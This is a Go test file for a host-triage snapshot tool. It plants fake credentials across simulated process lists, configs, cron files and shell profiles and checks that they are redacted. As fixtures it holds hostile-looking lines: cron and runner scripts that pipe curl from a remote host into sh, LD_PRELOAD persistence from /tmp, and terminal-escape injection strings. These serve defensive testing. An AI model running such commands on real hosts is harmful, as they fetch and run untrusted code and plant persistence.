package snapshot

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/pelletier/go-toml/v2"

	"cordon/internal/untrusted"
)

// planted makes secrets and remembers them: nothing that looks like a credential
// stands in this file.
type planted struct{ values []string }

func (p *planted) opaque() string {
	v := random()
	p.values = append(p.values, v)
	return v
}

func random() string {
	var b [18]byte
	_, _ = rand.Read(b[:])
	return hex.EncodeToString(b[:])
}

func (p *planted) token() string {
	v := "glrt-" + random()[:20]
	p.values = append(p.values, v)
	return v
}

func (p *planted) pem() string {
	body := base64.StdEncoding.EncodeToString([]byte(random() + random() + random()))
	p.values = append(p.values, body[:40])
	return "-----BEGIN " + "PRIVATE KEY-----\n" + body + "\n-----END " + "PRIVATE KEY-----\n"
}

// forms are the ways in which a value could hide in an output.
func forms(v string) []string {
	return []string{
		v, url.QueryEscape(v), hex.EncodeToString([]byte(v)), base64.StdEncoding.EncodeToString([]byte(v)),
		base64.RawURLEncoding.EncodeToString([]byte(v))[:len(v)], strings.ReplaceAll(fmt.Sprintf("%q", v), `"`, ""),
	}
}

// hosted is a triage stream in which every place that is read holds secrets.
func hosted(p *planted) string {
	file := func(s *stream, path, content string) {
		s.frame("lstat", path, fmt.Sprintf("8180 0 0 %d 1796000000 1796000000", len(content)))
		s.frame("data", path, content)
	}
	return whole(ProfileTriage, map[string]func(*stream){
		SectionIdent: func(s *stream) { s.frame("value", "hostname", "h-"+p.token()) },
		SectionProc: func(s *stream) {
			for i, args := range []string{
				"/usr/bin/gitlab-runner\x00register\x00-t\x00" + p.opaque() + "\x00--url\x00https://u:" + p.opaque() + "@gitlab.example.org\x00",
				"curl\x00-u\x00me:" + p.opaque() + "\x00--header\x00PRIVATE-TOKEN: " + p.opaque() + "\x00",
				"java\x00-jar\x00agent.jar\x00-secret\x00" + p.opaque() + "\x00--password=" + p.opaque() + "\x00",
				"sh\x00-c\x00export NPM_TOKEN=" + p.opaque() + "; npm publish\x00",
				"run.sh\x00--jitconfig\x00" + p.opaque() + "\x00",
			} {
				pid := fmt.Sprint(10 + i)
				s.frame("pstat", pid, stat(10+i, 1, "x", 1)).frame("pargs", pid, args)
			}
		},
		SectionDetail: func(s *stream) {
			s.frame("penv", "10", "DB="+p.opaque()+"\x00CI_JOB_TOKEN="+p.token()+"\x00PATH=/bin\x00HTTPS_PROXY=http://u:"+p.opaque()+"@proxy:3128\x00")
			s.frame("plinks", "10", "10/cwd\x00/builds/"+p.token()+"/0\x00")
		},
		SectionLog: func(s *stream) {
			s.frame("log", "journal", fmt.Sprintf(`{"MESSAGE":"registered with token %s","__REALTIME_TIMESTAMP":"1796000000000000"}`+"\n"+
				`{"MESSAGE":%s,"__REALTIME_TIMESTAMP":"1796000001000000"}`+"\n", p.token(), strings.ReplaceAll(fmt.Sprint([]byte("key="+p.token())), " ", ",")))
		},
		SectionUnits: func(s *stream) {
			file(s, "/etc/systemd/system/gitlab-runner.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so DB="+p.opaque()+
				"\nEnvironment=\"A="+p.opaque()+" "+p.opaque()+"\" \\\n  B="+p.opaque()+"\nExecStartPost=/bin/sh -c 'curl -H \"Authorization: Bearer "+p.opaque()+"\" x'\n")
			file(s, "/etc/default/gitlab-runner", "REGISTRATION="+p.opaque()+"\nexport X='"+p.opaque()+"'\nLD_PRELOAD=/tmp/y.so\n")
		},
		SectionCron: func(s *stream) {
			file(s, "/etc/cron.d/x", "* * * * * root curl https://user:"+p.opaque()+"@example.org/x | sh\n")
			file(s, "/var/spool/cron/atjobs/a00001", "#!/bin/sh\nDB="+p.opaque()+"; export DB\ncd /\n")
		},
		SectionRunners: func(s *stream) {
			file(s, "/etc/gitlab-runner/config.toml", config(p))
			file(s, "/opt/a/.runner", "\xef\xbb\xbf"+`{"agentName":"r1","gitHubUrl":"https://github.example/o","token":"`+p.opaque()+`","other":"`+p.opaque()+`"}`)
			file(s, "/opt/a/.env", "LANG=C\nACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/h.sh\nNEXUS="+p.opaque()+"\n")
			file(s, "/opt/a/config.yaml", "cache:\n  secret: "+p.opaque()+"\n")
			file(s, "/opt/a/broken.toml", "token = "+p.opaque()+"\n")
		},
		SectionKeys: func(s *stream) {
			file(s, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nnews:$6$"+p.opaque()+":9:9::/var/spool/news:/bin/sh\n")
		},
		SectionProfiles: func(s *stream) {
			file(s, "/root/.bashrc", "export GITHUB_TOKEN="+p.opaque()+"\n"+p.pem())
		},
	})
}

func config(p *planted) string {
	return `concurrent = 2
# token = "` + p.token() + `"
[[runners]]
  name = "build-07"
  url = "https://gitlab.example.org"
  token = "` + p.token() + `"
  token_obtained_at = 2026-01-02T03:04:05Z
  executor = "shell"
  environment = ["DB_URL=` + p.opaque() + `", "LD_PRELOAD=/tmp/x.so", 'QUOTED="` + p.opaque() + `"']
  pre_build_script = '''
export AWS_SECRET_ACCESS_KEY=` + p.opaque() + `
curl -sf https://192.0.2.7/x | sh
'''
  [runners.cache.s3]
    AccessKey = "` + p.opaque() + `"
    "SecretKey" = '` + p.opaque() + `'
  [runners.cache]
    gcs = { PrivateKey = "` + p.opaque() + `", BucketName = "b" }
  [runners.docker]
    privileged = true
    volumes = ["/var/run/docker.sock:/var/run/docker.sock"]
  [runners.autoscaler.plugin_config]
    name = "fleet"
    key = "` + p.opaque() + `"
`
}

func TestNoPlantedSecretIsInASnapshot(t *testing.T) {
	p := &planted{}
	text := hosted(p)
	for _, v := range p.values {
		if !found(t, text, v) {
			t.Fatalf("%q is not in the stream: the search below would prove nothing", v)
		}
	}
	s, err := parse(ProfileTriage, text)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.Encode(&b); err != nil {
		t.Fatal(err)
	}
	for _, v := range p.values {
		for _, f := range forms(v) {
			if i := strings.Index(b.String(), f); i >= 0 {
				t.Errorf("%q is in the snapshot: …%s…", v, b.String()[max(i-120, 0):i+len(f)])
			}
		}
	}
}

// found looks for v in the decoded bodies of a stream.
func found(t *testing.T, text, v string) bool {
	t.Helper()
	f := NewFrames(strings.NewReader(text), nonce, Limits{})
	for {
		fr, err := f.Next()
		if err != nil {
			return false
		}
		if bytes.Contains(fr.Body, []byte(v)) || bytes.Contains(bytes.ReplaceAll(fr.Body, []byte("\n"), nil), []byte(v)) {
			return true
		}
		if fr.Kind == "log" { // one message is a list of numbers
			if bytes.Contains(fr.Body, []byte(strings.Trim(strings.ReplaceAll(fmt.Sprint([]byte(v)), " ", ","), "[]"))) {
				return true
			}
		}
	}
}

func fileOf(t *testing.T, s *Snapshot, path string) File {
	t.Helper()
	for _, f := range s.Files {
		if string(f.Path) == path {
			return f
		}
	}
	t.Fatalf("no file %s", path)
	return File{}
}

func TestARedactedConfigIsStillTheSameTOML(t *testing.T) {
	p := &planted{}
	s, err := parse(ProfileTriage, hosted(p))
	if err != nil {
		t.Fatal(err)
	}
	f := fileOf(t, s, "/etc/gitlab-runner/config.toml")
	var c struct {
		Concurrent int
		Runners    []struct {
			Name, URL, Token, Executor string
			Environment                []string
			PreBuildScript             string `toml:"pre_build_script"`
			Docker                     struct {
				Privileged bool
				Volumes    []string
			}
			Cache struct {
				S3  struct{ AccessKey, SecretKey string }
				Gcs struct{ PrivateKey, BucketName string }
			}
			Autoscaler struct {
				Plugin map[string]string `toml:"plugin_config"`
			}
		}
	}
	if err := toml.Unmarshal([]byte(f.Content), &c); err != nil {
		t.Fatalf("%v in\n%s", err, f.Content)
	}
	r := c.Runners[0]
	hidden := func(what, v string) {
		t.Helper()
		if !strings.Contains(v, "[redacted hmac:") {
			t.Errorf("%s is %q", what, v)
		}
	}
	hidden("token", r.Token)
	hidden("access key", r.Cache.S3.AccessKey)
	hidden("secret key", r.Cache.S3.SecretKey)
	hidden("private key", r.Cache.Gcs.PrivateKey)
	hidden("environment", r.Environment[0])
	hidden("plugin", r.Autoscaler.Plugin["key"])
	if r.Name != "build-07" || r.URL != "https://gitlab.example.org" || !r.Docker.Privileged || len(r.Docker.Volumes) != 1 ||
		r.Environment[1] != "LD_PRELOAD=/tmp/x.so" || !strings.Contains(r.PreBuildScript, "curl -sf https://192.0.2.7/x | sh") ||
		r.Cache.Gcs.BucketName != "b" || r.Autoscaler.Plugin["name"] != "fleet" || c.Concurrent != 2 {
		t.Errorf("what a checker needs was lost: %+v", r)
	}
	if f.Redacted == 0 || !strings.HasPrefix(f.Print, "hmac:") || f.Described {
		t.Errorf("file: %+v", f)
	}
}

func TestWhatIsNotUnderstoodIsDescribedNotKept(t *testing.T) {
	s, err := parse(ProfileTriage, hosted(&planted{}))
	if err != nil {
		t.Fatal(err)
	}
	f := fileOf(t, s, "/opt/a/broken.toml")
	if f.Content != "" || !f.Described || f.Print == "" {
		t.Errorf("%+v", f)
	}
}

func TestNamesThatTellStayReadable(t *testing.T) {
	s, err := parse(ProfileTriage, hosted(&planted{}))
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{
		"/etc/systemd/system/gitlab-runner.service.d/x.conf": "Environment=LD_PRELOAD=/tmp/x.so DB=[redacted ",
		"/etc/default/gitlab-runner":                         "\nLD_PRELOAD=/tmp/y.so\n",
		"/opt/a/.env":                                        "ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/h.sh\nNEXUS=[redacted ",
		"/opt/a/.runner":                                     `"gitHubUrl":"https://github.example/o"`,
		"/var/spool/cron/atjobs/a00001":                      "; export DB\ncd /\n",
		"/etc/passwd":                                        "root:x:0:0::/root:/bin/sh\nnews:[redacted ",
	} {
		if f := fileOf(t, s, path); !strings.Contains(string(f.Content), want) {
			t.Errorf("%s: no %q in\n%s", path, want, f.Content)
		}
	}
}

// A cap may cut a secret in two, and the front half no longer has its shape.
func TestHalfASecretAtACapIsNotKept(t *testing.T) {
	p := &planted{}
	content := "export A=b\nexport GITHUB_TOKEN=" + p.opaque()
	text := whole(ProfileTriage, map[string]func(*stream){
		SectionProc: func(s *stream) {
			s.frame("pstat", "5", stat(5, 1, "x", 1))
			s.frame("pargs", "5", strings.Repeat("a", argsCap-21)+"\x00"+p.token()[:20])
		},
		SectionDetail: func(s *stream) {
			s.frame("penv", "5", strings.Repeat("A=b\x00", (envCap-24)/4)+"PATH=/"+p.token()[:20])
		},
		SectionProfiles: func(s *stream) {
			s.frame("lstat", "/root/.bashrc", "8180 0 0 100000 1 1").frame("data", "/root/.bashrc", content[:len(content)-4])
		},
	})
	s, err := parse(ProfileTriage, text)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.Encode(&b); err != nil {
		t.Fatal(err)
	}
	for _, v := range p.values {
		if strings.Contains(b.String(), v[:14]) {
			t.Errorf("the front of %q was kept", v)
		}
	}
	if f := fileOf(t, s, "/root/.bashrc"); !f.Truncated || f.Content != "export A=b\n" {
		t.Errorf("%+v", f)
	}
	if s.Seen(SectionDetail) {
		t.Error("a section with a cut command line or environment counts as seen")
	}
}

// A compiler that names all its files is on every build machine: whether an agent runs there
// is told all the same. Only of a Java program the words say what it is.
func TestALongCommandLineHidesNoAgent(t *testing.T) {
	long := strings.Repeat("./a_file_of_many.go\x00", maxArgs+1)
	for _, c := range []struct {
		comm, args   string
		proc, detail bool
	}{
		{"compile", "compile\x00-o\x00x", true, true},
		{"compile", "compile\x00" + long, true, false},
		{"compile", strings.Repeat("a", argsCap), true, false},
		{"java", "java\x00-cp\x00" + long, false, true},
		{"java", "java\x00-jar\x00agent.jar\x00" + long, true, false},
	} {
		s, err := parse(ProfileWatch, whole(ProfileWatch, map[string]func(*stream){SectionProc: func(s *stream) {
			s.frame("pstat", "5", stat(5, 1, c.comm, 1)).frame("pargs", "5", c.args)
		}}))
		if err != nil {
			t.Fatal(err)
		}
		if s.Seen(SectionProc) != c.proc || s.Seen(SectionDetail) != c.detail {
			t.Errorf("%s with %d bytes: %+v", c.comm, len(c.args), s.Sections)
		}
	}
}

func TestForeignTextLeavesEscaped(t *testing.T) {
	esc := "\x1b]52;c;aGk=\x07\u202e\x9b31m\r\n"
	s, err := parse(ProfileTriage, whole(ProfileTriage, map[string]func(*stream){
		SectionIdent:  func(s *stream) { s.frame("value", "hostname", "h"+esc) },
		SectionProc:   func(s *stream) { s.frame("pstat", "5", stat(5, 1, "x"+esc, 1)).frame("pargs", "5", "a"+esc) },
		SectionDetail: func(s *stream) { s.frame("penv", "5", "N"+esc+"=v\x00PATH=/bin"+esc) },
		SectionCron: func(s *stream) {
			s.frame("lstat", "/etc/cron.d/"+esc, "81a4 0 0 1 1 1").frame("data", "/etc/cron.d/"+esc, "#"+esc)
			s.frame("gap", "g"+esc, "w"+esc)
		},
	}))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.Encode(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `\u001b]52`) {
		t.Error("the hostname is not in the document: the search below would prove nothing")
	}
	if i := bytes.IndexFunc(b.Bytes(), func(r rune) bool { return r != '\n' && untrusted.Clean(string(r), 0) != string(r) }); i >= 0 {
		t.Errorf("unprintable %q", b.String()[i:min(i+20, b.Len())])
	}
}
